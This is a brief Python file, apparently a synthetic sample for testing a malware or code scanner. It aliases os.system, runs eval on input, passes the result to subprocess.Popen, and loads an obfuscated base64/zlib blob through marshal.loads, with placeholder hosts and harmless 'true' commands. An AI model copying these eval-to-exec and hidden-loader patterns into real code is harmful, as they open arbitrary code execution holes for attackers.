import os
import os.path as paths
import zlib
from base64 import b64decode as decode
from os import system as run

HOME = "http://example.org/tool"
SERVER = "203.0.113.9"
BLOB = "eJwrSSwuSU3OyM9LTMrMS8wpyklRKEktLgEAAAD//zZ9B5c="


def start(text):
    value = eval(text)
    os.system("true")
    run("true")
    import subprocess; subprocess.Popen([value, paths.join("/etc/hosts", HOME)])

def load(system):
    import marshal
    return marshal.loads(zlib.decompress(decode(BLOB)))


def quiet(os, eval):
    return os.system(eval("1"))
